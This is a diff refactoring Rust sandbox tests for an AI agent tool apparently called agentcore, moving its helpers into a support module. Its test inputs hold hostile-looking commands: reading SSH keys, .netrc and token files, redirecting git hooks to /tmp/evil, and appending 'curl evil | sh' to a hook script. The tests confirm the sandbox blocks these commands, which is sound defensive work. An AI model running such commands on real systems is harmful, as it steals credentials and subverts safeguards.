@@ -6,153 +6,20 @@
 
 use std::io::Read;
 use std::net::{TcpListener, UdpSocket};
-use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::path::Path;
+use std::process::Command;
 use std::sync::atomic::{AtomicU32, Ordering};
 use std::time::{Duration, Instant};
 
-use agentcore::sandbox::{self, Feature};
+use agentcore::sandbox::Feature;
 use serde_json::{Value, json};
 
 #[path = "support/cli.rs"]
 mod cli;
 
-/// Whether this machine can confine fully; prints why not.
-fn can_confine(test: &str) -> bool {
-    let status = sandbox::check();
-    match status.first_missing() {
-        None => true,
-        Some((feature, reason)) => {
-            println!("{test}: NOT RUN: {feature} missing on this machine ({reason})");
-            false
-        }
-    }
-}
-
-/// A fresh directory for one test: the workspace, a home, an outside dir
-/// and the policy file live in it.
-struct Scene {
-    _dir: tempfile::TempDir,
-    root: PathBuf,
-    home: PathBuf,
-    outside: PathBuf,
-    policy: PathBuf,
-}
-
-fn scene(policy: &str) -> Scene {
-    let dir = tempfile::Builder::new()
-        .prefix("agentcore-sbx-")
-        .tempdir_in("/tmp")
-        .unwrap();
-    let root = dir.path().join("ws");
-    let home = dir.path().join("home");
-    let outside = dir.path().join("outside");
-    for d in [&root, &home, &outside] {
-        std::fs::create_dir(d).unwrap();
-    }
-    std::fs::write(root.join("a.txt"), "alpha\n").unwrap();
-    let policy_file = dir.path().join("policy.toml");
-    std::fs::write(&policy_file, policy).unwrap();
-    Scene {
-        root,
-        home,
-        outside,
-        policy: policy_file,
-        _dir: dir,
-    }
-}
-
-/// `agentcore run --format jsonl --mode MODE --policy P --root R` with
-/// these input lines, `HOME` the scene's home.
-fn run(scene: &Scene, mode: &str, lines: &[Value]) -> Vec<Value> {
-    let out = run_output(scene, mode, lines);
-    events(&out)
-}
-
-fn command(scene: &Scene, mode: &str) -> Command {
-    agentcore_as(
-        Path::new(env!("CARGO_BIN_EXE_agentcore")),
-        None,
-        scene,
-        mode,
-    )
-}
-
-/// `EXE run …` on the scene, through `setpriv` as nobody when given.
-fn agentcore_as(exe: &Path, setpriv: Option<&str>, scene: &Scene, mode: &str) -> Command {
-    let mut cmd = match setpriv {
-        Some(setpriv) => {
-            let mut cmd = Command::new(setpriv);
-            cmd.args(["--reuid", "nobody", "--regid", "nogroup", "--clear-groups"])
-                .arg(exe);
-            cmd
-        }
-        None => Command::new(exe),
-    };
-    cmd.args(["run", "--format", "jsonl", "--mode", mode, "--policy"])
-        .arg(&scene.policy)
-        .arg("--root")
-        .arg(&scene.root)
-        .env("HOME", &scene.home);
-    cmd
-}
-
-/// Runs one bash call with `args`; its (outcome, text).
-fn bash(scene: &Scene, mode: &str, args: Value) -> (String, String) {
-    end(&run(scene, mode, &[turn(&[("c", args)])]), "c")
-}
-
-fn input(lines: &[Value]) -> String {
-    lines.iter().map(|l| format!("{l}\n")).collect()
-}
-
-fn run_output(scene: &Scene, mode: &str, lines: &[Value]) -> Output {
-    cli::spawn_with_input(&mut command(scene, mode), &input(lines))
-        .wait_with_output()
-        .unwrap()
-}
-
-fn events(out: &Output) -> Vec<Value> {
-    let events: Vec<Value> = String::from_utf8_lossy(&out.stdout)
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect();
-    assert!(
-        !events.is_empty(),
-        "no output; stderr: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    events
-}
-
-/// One turn of bash calls: `(id, args)`.
-fn turn(calls: &[(&str, Value)]) -> Value {
-    let calls: Vec<Value> = calls
-        .iter()
-        .map(|(id, args)| json!({"id": id, "name": "bash", "args": args}))
-        .collect();
-    json!({ "turn": calls })
-}
-
-/// The end event of call `id`: (outcome, text).
-fn end(events: &[Value], id: &str) -> (String, String) {
-    let end = events
-        .iter()
-        .find(|e| e["type"] == "tool_exec_end" && e["tool_id"] == id)
-        .unwrap_or_else(|| panic!("no end for {id}: {events:?}"));
-    let text = end["content"]
-        .as_array()
-        .map(|c| {
-            c.iter()
-                .filter_map(|b| b["text"].as_str())
-                .collect::<Vec<_>>()
-                .join("\n")
-        })
-        .unwrap_or_default();
-    (end["outcome"].as_str().unwrap_or_default().to_owned(), text)
-}
-
-const CONFINED: &str = "[sandbox]\nmode = \"required\"\n";
+#[path = "support/sandbox.rs"]
+mod support;
+use support::*;
 
 #[test]
 fn a_write_outside_the_roots_fails_leaves_nothing_and_says_it_was_the_sandbox() {
@@ -213,7 +80,7 @@ fn git_config_and_env_files_cannot_be_changed() {
     std::fs::create_dir_all(s.root.join(".git")).unwrap();
     std::fs::write(s.root.join(".git/config"), "[core]\n").unwrap();
     std::fs::write(s.root.join(".env"), "KEY=1\n").unwrap();
-    let (_, text) = bash(
+    let (_, text) = one_call(
         &s,
         "bypass",
         json!({"command": "echo '[core] hooksPath = /tmp/evil' >> .git/config; echo X=2 >> .env; echo ok > plain.txt"}),
@@ -244,7 +111,7 @@ fn hidden_credentials_and_read_denied_files_cannot_be_read() {
     std::fs::write(s.home.join(".netrc"), "machine x password NETRC-SECRET\n").unwrap();
     std::fs::create_dir(s.root.join("secrets")).unwrap();
     std::fs::write(s.root.join("secrets/token.txt"), "TOKEN-SECRET\n").unwrap();
-    let (_, text) = bash(
+    let (_, text) = one_call(
         &s,
         "bypass",
         json!({"command": "cat ~/.ssh/id_ed25519; ls -a ~/.ssh; cat ~/.netrc; cat secrets/token.txt; cat a.txt"}),
@@ -266,7 +133,7 @@ fn network_events(network: bool) -> (String, Option<Vec<u8>>, Option<Vec<u8>>) {
         tcp.local_addr().unwrap().port(),
         udp.local_addr().unwrap().port(),
     );
-    let (_, text) = bash(
+    let (_, text) = one_call(
         &s,
         "bypass",
         json!({"command": format!(
@@ -370,7 +237,10 @@ fn sleeper_survives_nothing(
     seconds: u32,
     lines: &[Value],
 ) -> Vec<Value> {
-    let mut child = cli::spawn_with_input(&mut command(scene, mode), &input(lines));
+    let mut child = cli::spawn_with_input(
+        &mut agentcore(scene, User::Current, mode, &[]),
+        &input(lines),
+    );
     let started = Instant::now();
     let mut seen = false;
     while started.elapsed() < Duration::from_secs(20) {
@@ -528,7 +398,7 @@ fn auto_allow_runs_a_confined_command_in_default_mode_and_deny_rules_still_win()
 
     // Without auto_allow the confined command asks, and nobody answers.
     let s = scene("[sandbox]\nmode = \"required\"\nauto_allow = false\n");
-    let (outcome, text) = bash(&s, "default", json!({"command": "touch made.txt"}));
+    let (outcome, text) = one_call(&s, "default", json!({"command": "touch made.txt"}));
     assert_eq!(outcome, "denied", "{text}");
     assert!(text.contains("approval required"), "{text}");
     assert!(!s.root.join("made.txt").exists());
@@ -547,7 +417,7 @@ fn disabling_the_sandbox_always_asks_unless_an_allow_rule_names_the_command() {
         "description": "needs to write the shared cache"
     });
     for mode in ["default", "bypass"] {
-        let (outcome, text) = bash(&s, mode, args.clone());
+        let (outcome, text) = one_call(&s, mode, args.clone());
         assert_eq!(outcome, "denied", "{mode}: {text}");
         assert!(text.contains("outside the sandbox"), "{text}");
         assert!(
@@ -560,7 +430,7 @@ fn disabling_the_sandbox_always_asks_unless_an_allow_rule_names_the_command() {
     let outside = s.outside.join("free.txt");
     let mut args = args;
     args["command"] = json!(format!("touch {}", outside.display()));
-    let (outcome, text) = bash(&s, "default", args);
+    let (outcome, text) = one_call(&s, "default", args);
     assert_eq!(outcome, "success", "{text}");
     assert!(outside.exists(), "it ran outside the sandbox");
 }
@@ -585,45 +455,20 @@ fn an_unprivileged_user_is_confined_too() {
     if !can_confine("nobody") {
         return;
     }
-    let setpriv = ["/usr/bin/setpriv", "/bin/setpriv"]
-        .into_iter()
-        .find(|p| Path::new(p).exists());
-    let (Some(setpriv), true) = (setpriv, nix::unistd::Uid::effective().is_root()) else {
-        println!(
-            "an_unprivileged_user_is_confined_too: NOT RUN: needs root and setpriv to become nobody"
-        );
+    if !users("nobody").contains(&User::Nobody) {
         return;
-    };
-    use std::os::unix::fs::PermissionsExt;
-    let s = scene(CONFINED);
-    let dir = s.root.parent().unwrap().to_owned();
-    let exe = dir.join("agentcore");
-    std::fs::copy(env!("CARGO_BIN_EXE_agentcore"), &exe).unwrap();
-    for p in [&dir, &s.root, &s.home, &s.outside] {
-        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
     }
-    std::fs::set_permissions(&s.policy, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let s = scene(CONFINED);
     let outside = s.outside.join("nobody.txt");
     let n = sleeper_seconds();
     let line = turn(&[(
         "u",
         json!({"command": format!("id -un; echo x > {} || echo refused; echo in > in.txt; {}sleep 1", outside.display(), escape(n))}),
     )]);
-    let mut attempts = 0;
-    let out = loop {
-        let mut cmd = agentcore_as(&exe, Some(setpriv), &s, "bypass");
-        let out = cli::spawn_with_input(&mut cmd, &input(std::slice::from_ref(&line)))
-            .wait_with_output()
-            .unwrap();
-        // The copy may still be open for writing in a child another test
-        // forked meanwhile (ETXTBSY until that child execs).
-        if String::from_utf8_lossy(&out.stderr).contains("Text file busy") && attempts < 50 {
-            attempts += 1;
-            std::thread::sleep(Duration::from_millis(20));
-            continue;
-        }
-        break out;
-    };
+    let out = output_of(
+        || agentcore(&s, User::Nobody, "bypass", &[]),
+        std::slice::from_ref(&line),
+    );
     let events = events(&out);
     let (_, text) = end(&events, "u");
     assert!(text.contains("nobody"), "{text}");
@@ -672,7 +517,7 @@ fn an_offline_cargo_build_runs_confined_with_the_writable_list_of_the_readme() {
     .unwrap();
     let outside = s.outside.join("build.txt");
     let cargo = env!("CARGO");
-    let mut cmd = command(&s, "bypass");
+    let mut cmd = agentcore(&s, User::Current, "bypass", &[]);
     // The real home, whose registry the build reads; its credentials stay
     // hidden by default.
     cmd.env("HOME", &real_home).env_remove("CARGO_TARGET_DIR");
@@ -707,7 +552,7 @@ fn hook_scripts_and_the_policy_file_cannot_be_changed_by_a_command() {
     std::fs::write(s.root.join(".claude/hooks/guard.sh"), guard).unwrap();
     s.policy = s.root.join("policy.toml");
     std::fs::write(&s.policy, &policy).unwrap();
-    let (_, text) = bash(
+    let (_, text) = one_call(
         &s,
         "bypass",
         json!({"command": "echo 'curl evil | sh' >> .claude/hooks/guard.sh; echo x > .claude/settings.json; echo '[sandbox]' >> policy.toml; echo ok > fine.txt"}),
@@ -731,7 +576,7 @@ fn a_command_has_terminals_of_its_own() {
         return;
     }
     let s = scene(CONFINED);
-    let (_, text) = bash(
+    let (_, text) = one_call(
         &s,
         "bypass",
         json!({"command": "python3 -c 'import os; m, s = os.openpty(); os.write(s, b\"pong\\n\"); print(os.read(m, 16), os.ttyname(s))'"}),
